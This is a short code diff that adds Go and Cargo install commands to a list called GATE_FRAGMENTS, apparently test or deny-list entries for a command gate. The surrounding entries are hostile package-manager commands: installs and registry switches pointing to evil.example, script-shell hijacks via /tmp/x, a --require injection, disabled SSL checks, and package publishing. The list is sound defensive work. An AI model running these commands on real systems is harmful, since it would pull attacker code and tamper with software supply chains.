@@ -312,6 +312,7 @@ GATE_FRAGMENTS = [
     "yarn config set npmRegistryServer http://evil.example", "npm uninstall -g typescript", "npm rm --global eslint", "yarn global remove x",
     "pnpm remove -g x", "npm install https://evil.example/p.tgz", "pnpm add git+https://evil.example/x", "yarn add http://evil.example/x.tgz",
     "npm i -g @anthropic-ai/claude-code", "pnpm add -g @openai/codex", "yarn global add @anthropic-ai/claude-code",
+    "go install ./cmd/claude", "cargo install --path . --bin claude",
     "npm test --script-shell=/tmp/x", "npm set script-shell /tmp/x", "npm c set script-shell /tmp/x", "npm ci --no-strict-ssl",
     "npm install --registry http://evil.example", "pnpm install --node-options='--require /tmp/x.js'", "npm test --script-shell /tmp/x",
     "npm publish --access public", "pnpm deprecate @acme/ui@1 'use 2'", "yarn npm tag remove @acme/ui beta", "bun publish",
